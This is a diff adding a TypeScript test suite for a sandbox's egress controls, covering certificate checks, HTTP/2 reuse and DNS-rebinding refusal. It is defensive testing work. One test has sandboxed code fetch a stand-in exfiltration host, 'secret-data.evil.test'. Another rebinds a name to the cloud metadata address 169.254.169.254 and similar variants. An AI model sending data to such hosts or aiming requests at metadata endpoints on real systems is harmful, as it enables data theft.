@@ -1,0 +1,235 @@
+import { randomBytes } from "node:crypto";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import {
+  EGRESS_LIMITS,
+  failure,
+  MEBIBYTE,
+  output,
+  reach,
+  run,
+  testSandbox,
+  until,
+} from "../test-sandbox.ts";
+import type { RunOptions } from "../test-sandbox.ts";
+import type { ExecuteResult, Sandbox } from "../types.ts";
+import { http2Upstream, plainUpstream, secureUpstream, testCertificate } from "./test-upstream.ts";
+import type { Upstream } from "./test-upstream.ts";
+
+const trusted = testCertificate(["api.test", "*.wild.test"]);
+const untrusted = testCertificate(["api.test"]);
+const large = randomBytes(20 * MEBIBYTE);
+/** What the names of this test mean; a test may change it. */
+const names: Record<string, string[]> = {
+  "api.test": ["127.0.0.1"],
+  "a.wild.test": ["127.0.0.1"],
+  "other.test": ["127.0.0.1"],
+  "several.test": ["127.0.0.9", "127.0.0.1"],
+};
+let asked: string[] = [];
+let sandbox: Sandbox;
+let tls: Upstream;
+let h2: Upstream;
+let stranger: Upstream;
+let plain: Upstream;
+let h2Closed = 0;
+
+beforeAll(async () => {
+  tls = await secureUpstream(trusted, (request, response) => {
+    response.end(`${request.httpVersion} ${request.headers.host}`);
+  });
+  h2 = await http2Upstream(trusted, (request, response) => {
+    response.stream.once("close", () => (h2Closed += 1));
+    if (request.url === "/large") response.end(large);
+    else if (request.url === "/never") request.resume();
+    else {
+      let bytes = 0;
+      request.on("data", (chunk: Buffer) => (bytes += chunk.length));
+      request.on("end", () => {
+        response.setHeader("set-cookie", ["a=1", "b=2"]);
+        response.end(`${request.httpVersion} ${request.authority} ${bytes}`);
+      });
+    }
+  });
+  stranger = await secureUpstream(untrusted, (_request, response) => response.end("stranger"));
+  plain = await plainUpstream((request, response) => response.end(`plain ${request.headers.host}`));
+  sandbox = await testSandbox({
+    maxMemoryBytes: 256 * MEBIBYTE,
+    egress: {
+      ca: [trusted.cert],
+      lookup: async (host) => {
+        asked.push(host);
+        return names[host] ?? [];
+      },
+    },
+  });
+});
+afterAll(async () => {
+  await sandbox.stop();
+  for (const upstream of [tls, h2, stranger, plain]) upstream.close();
+});
+
+/** Runs the body of an async function that may reach these hosts, all of which are opened. */
+function runs(hosts: string[], body: string, options: RunOptions = {}): Promise<ExecuteResult> {
+  const privateHosts = hosts.map((host) => host.replace("http://", "").replace("*.", "a."));
+  return run(sandbox, `export default async (input) => { ${body} }`, {
+    egress: reach(hosts, { privateHosts, limits: { ...EGRESS_LIMITS, bytesSent: 1e9 } }),
+    ...options,
+  });
+}
+
+const text = (url: string) => `return (await fetch("${url}")).text()`;
+
+describe("HTTPS", () => {
+  test("reaches the host by its name and port", async () => {
+    const url = `https://api.test:${tls.port}/`;
+    const result = await runs([`api.test:${tls.port}`], text(url));
+    expect(output(result)).toBe(`1.1 api.test:${tls.port}`);
+  });
+
+  test("reaches a host below a wildcard, whose certificate says so", async () => {
+    const result = await runs(
+      [`*.wild.test:${tls.port}`],
+      text(`https://a.wild.test:${tls.port}/`),
+    );
+    expect(output(result)).toBe(`1.1 a.wild.test:${tls.port}`);
+  });
+
+  test.each([
+    ["is of another authority", "api.test", () => stranger.port, "SELF_SIGNED"],
+    ["is for another name", "other.test", () => tls.port, "ERR_TLS_CERT_ALTNAME_INVALID"],
+    [
+      "is for a name and not its address",
+      "127.0.0.1",
+      () => tls.port,
+      "ERR_TLS_CERT_ALTNAME_INVALID",
+    ],
+  ])("fails when the certificate %s", async (_what, host, port, code) => {
+    const result = await runs([`${host}:${port()}`], text(`https://${host}:${port()}/`));
+    expect(failure(result).code).toBe("tool_error");
+    expect(failure(result).message).toContain(
+      `fetch failed: ${host}:${port()}: its certificate was not accepted`,
+    );
+    expect(failure(result).message).toContain(code);
+  });
+
+  test("fails where no TLS is spoken, and plain HTTP where it is", async () => {
+    const wrong = await runs([`api.test:${plain.port}`], text(`https://api.test:${plain.port}/`));
+    expect(failure(wrong)).toMatchObject({ code: "tool_error" });
+    const other = await runs([`http://api.test:${tls.port}`], text(`http://api.test:${tls.port}/`));
+    expect(failure(other)).toMatchObject({ code: "tool_error" });
+  });
+
+  test("of a declared host gives no plain HTTP to it", async () => {
+    const result = await runs([`api.test:${plain.port}`], text(`http://api.test:${plain.port}/`));
+    expect(failure(result)).toMatchObject({ code: "egress_denied" });
+    expect(failure(result).message).toContain("does not declare it for plain http");
+  });
+});
+
+describe("HTTP/2", () => {
+  const url = () => `https://api.test:${h2.port}`;
+  const hosts = () => [`api.test:${h2.port}`];
+
+  test("is spoken where the host offers it, over one connection", async () => {
+    const before = h2.connections();
+    const result = await runs(
+      hosts(),
+      `const all = Array.from({ length: 50 }, () => fetch("${url()}/", { method: "POST", body: "hello" }));
+       const answers = await Promise.all(all);
+       const texts = await Promise.all(answers.map((answer) => answer.text()));
+       return [[...new Set(texts)], answers[0].headers.getSetCookie(), answers[0].status]`,
+    );
+    expect(output(result)).toEqual([[`2.0 api.test:${h2.port} 5`], ["a=1", "b=2"], 200]);
+    expect(h2.connections() - before).toBe(1);
+  });
+
+  test("carries large bodies both ways", async () => {
+    const limits = { cpuMs: 30_000, memoryBytes: 256 * MEBIBYTE };
+    const down = await runs(
+      hosts(),
+      `const body = await (await fetch("${url()}/large")).arrayBuffer();
+       const digest = await crypto.subtle.digest("SHA-256", body);
+       return [body.byteLength, new Uint8Array(digest).toHex()]`,
+      { limits },
+    );
+    const digest = await crypto.subtle.digest("SHA-256", large);
+    expect(output(down)).toEqual([large.length, Buffer.from(digest).toString("hex")]);
+    const size = 20 * MEBIBYTE;
+    const up = await runs(
+      hosts(),
+      `let left = ${size};
+       const body = new ReadableStream({ pull(c) { if (left === 0) return c.close(); left -= 65536; c.enqueue(new Uint8Array(65536)) } });
+       return (await fetch("${url()}/", { method: "PUT", body })).text()`,
+      { limits },
+    );
+    expect(output(up)).toBe(`2.0 api.test:${h2.port} ${size}`);
+  });
+
+  test("ends one request with its run and keeps the connection for others", async () => {
+    const closed = h2Closed;
+    const connections = h2.connections();
+    const body = `fetch("${url()}/never").catch(() => {}); await new Promise((resolve) => setTimeout(resolve, 200)); return 1`;
+    const options = { reuseKey: "h2" };
+    expect(output(await runs(hosts(), body, options))).toBe(1);
+    await until(() => h2Closed === closed + 1, 1_000);
+    expect(output(await runs(hosts(), body, options))).toBe(1);
+    await until(() => h2Closed === closed + 2, 1_000);
+    expect(h2.connections() - connections).toBe(1);
+  });
+});
+
+describe("a name", () => {
+  const hosts = () => [`http://several.test:${plain.port}`];
+  const body = () => text(`http://several.test:${plain.port}/`);
+
+  test("with several addresses is reached at one that answers", async () => {
+    expect(output(await runs(hosts(), body()))).toBe(`plain several.test:${plain.port}`);
+  });
+
+  test("that comes to mean another place is refused there, and never connected to", async () => {
+    const rebound = `http://rebound.test:${plain.port}`;
+    const ask = `const said = [];
+      for (let i = 0; i < 3; i++) said.push(await fetch("${rebound}/").then((answer) => answer.text(), (error) => error.message));
+      return said`;
+    const privateHosts = [`rebound.test:${plain.port}`];
+    names["rebound.test"] = ["127.0.0.1"];
+    const egress = reach([rebound], { privateHosts });
+    expect(output(await run(sandbox, `export default async () => { ${ask} }`, { egress }))).toEqual(
+      Array(3).fill(`plain rebound.test:${plain.port}`),
+    );
+    const before = plain.connections();
+    for (const address of [
+      "169.254.169.254",
+      "::ffff:169.254.169.254",
+      "0.1.2.3",
+      "64:ff9b::7f00:1",
+    ]) {
+      names["rebound.test"] = [address];
+      const result = await run(sandbox, `export default async () => { ${ask} }`, { egress });
+      for (const said of [output(result)].flat()) {
+        expect(said).toMatch(
+          /^egress_denied: this tool may not reach rebound\.test:\d+: it leads to/,
+        );
+      }
+    }
+    expect(plain.connections()).toBe(before);
+  });
+
+  test("is asked for anew with every request and looked up only when it is declared", async () => {
+    asked = [];
+    await runs(hosts(), `${body().replace("return", "")}; ${body()}`);
+    await runs(hosts(), `await fetch("https://secret-data.evil.test/").catch(() => {})`);
+    expect(asked).toEqual(["several.test", "several.test"]);
+  });
+
+  test("is not connected to at another address than was checked, once a connection is open", async () => {
+    names["moving.test"] = ["127.0.0.1"];
+    const moving = [`http://moving.test:${plain.port}`];
+    expect(output(await runs(moving, text(`${moving[0]}/`)))).toBe(
+      `plain moving.test:${plain.port}`,
+    );
+    names["moving.test"] = ["127.0.0.8"];
+    const result = await runs(moving, text(`${moving[0]}/`));
+    expect(failure(result).message).toContain("it refused the connection");
+  });
+});
